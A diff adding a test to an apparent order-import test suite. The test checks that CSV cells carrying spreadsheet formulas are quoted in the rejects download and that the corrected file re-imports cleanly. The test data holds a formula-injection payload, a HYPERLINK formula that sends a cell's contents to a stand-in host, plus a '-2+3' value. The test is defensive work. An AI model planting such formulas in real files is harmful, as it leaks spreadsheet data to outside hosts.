@@ -8,9 +8,11 @@ from pathlib import Path
 import httpx
 from benchmarks.order_exports import write_sample_export
 from markupsafe import escape
+from sqlalchemy import select
 
 from tests.conftest import MakeStaff, csrf_from, sign_in
 from xiaoer.core.db import Database
+from xiaoer.orders.models import Order
 from xiaoer.sellercentre.imports import wait_for_jobs
 from xiaoer.sellercentre.models import ImportJob
 from xiaoer.shops.models import Shop
@@ -217,3 +219,54 @@ async def test_agents_may_not_import(
     await make_staff("mei", "agent")
     await sign_in(client, "mei")
     assert (await client.get("/orders/import")).status_code == 403
+
+
+async def test_a_rejects_file_opens_safely_and_imports_again_once_fixed(
+    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, shop: Shop, tmp_path: Path
+) -> None:
+    await make_staff("boss", "supervisor")
+    await sign_in(client, "boss")
+    order_list, _items = write_sample_export(tmp_path, 10, seed=23, quirks=False)
+    with order_list.open(encoding="gb18030", newline="") as f:
+        rows = list(csv.reader(f))
+    header = [h.strip() for h in rows[0]]
+    nick, message, paid = (header.index(h) for h in ("买家会员名", "买家留言", "买家实际支付金额"))
+    formula = '=HYPERLINK("http://x/?"&A1,"a")'
+    good_amount = rows[1][paid]
+    rows[1][nick], rows[1][message], rows[1][paid] = formula, "-2+3", "很多钱"
+    with order_list.open("w", encoding="gb18030", newline="") as f:
+        csv.writer(f).writerows(rows)
+    files = {"orders": (order_list.name, order_list.read_bytes(), "text/csv")}
+    started = await client.post(
+        "/orders/import", files=files, data={"csrf_token": await _token(client)}
+    )
+    job_id = int(started.headers["location"].rsplit("/", 1)[1])
+    await wait_for_jobs()
+    first = (await client.get(f"/api/orders/imports/{job_id}")).json()
+    assert (first["summary"]["created"], first["summary"]["rejected"]) == (9, 1)
+
+    download = await client.get(f"/orders/import/{job_id}/rejects/0")
+    rejected = list(csv.reader(download.content.decode("gb18030").splitlines()))
+    # What a spreadsheet would run is quoted; the other cells are as exported.
+    assert rejected[1][nick] == "'" + formula and rejected[1][message] == "'-2+3"
+    assert [c for i, c in enumerate(rejected[1][:-2]) if i not in (nick, message)] == [
+        c for i, c in enumerate(rows[1]) if i not in (nick, message)
+    ]
+    # The seller fixes the amount in the file and imports it as it is.
+    rejected[1][paid] = good_amount
+    fixed = tmp_path / "ExportOrderList-fixed.csv"
+    with fixed.open("w", encoding="gb18030", newline="") as f:
+        csv.writer(f).writerows(rejected)
+    files = {"orders": (fixed.name, fixed.read_bytes(), "text/csv")}
+    again = await client.post(
+        "/orders/import", files=files, data={"csrf_token": await _token(client)}
+    )
+    again_id = int(again.headers["location"].rsplit("/", 1)[1])
+    await wait_for_jobs()
+    second = (await client.get(f"/api/orders/imports/{again_id}")).json()
+    assert (second["summary"]["created"], second["summary"]["rejected"]) == (1, 0)
+    async with db.session() as session:
+        order = await session.scalar(
+            select(Order).where(Order.shop_id == shop.id, Order.buyer_message == "-2+3")
+        )
+    assert order is not None and order.buyer_nick == formula
